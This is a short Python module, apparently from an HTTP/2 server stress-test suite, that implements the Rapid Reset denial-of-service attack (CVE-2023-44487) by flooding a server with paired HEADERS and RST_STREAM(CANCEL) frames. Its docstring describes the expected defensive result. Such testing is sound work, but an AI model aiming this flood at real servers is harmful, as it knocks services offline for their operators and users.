"""Rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) at once, stream after
stream, so the server starts work it never gets to finish. Expected: the server survives and
serves others; it may end the connection with GOAWAY ENHANCE_YOUR_CALM (RFC 9113 §10.5)."""

import h2wire
from attack import Attack, Outcome
from attacks.flood import describe, flood

BATCH = 100


def run(ctx):
    block = h2wire.request_block("/hello")

    def batch(conn, n):
        out = []
        for k in range(BATCH):
            sid = 1 + 2 * (n * BATCH + k)
            out.append(h2wire.headers(sid, block) + h2wire.rst_stream(sid, 8))
        return b"".join(out)

    res = flood(ctx, reading=ctx.pick(2, 4), silent=0, setup=b"", batch=batch,
                per_batch=BATCH, cap=ctx.pick(200_000, 2_000_000))
    return Outcome(describe(res, "HEADERS+RST_STREAM pairs"))


ATTACK = Attack("rapid_reset", "HEADERS + RST_STREAM(CANCEL) loops on h2c", run)
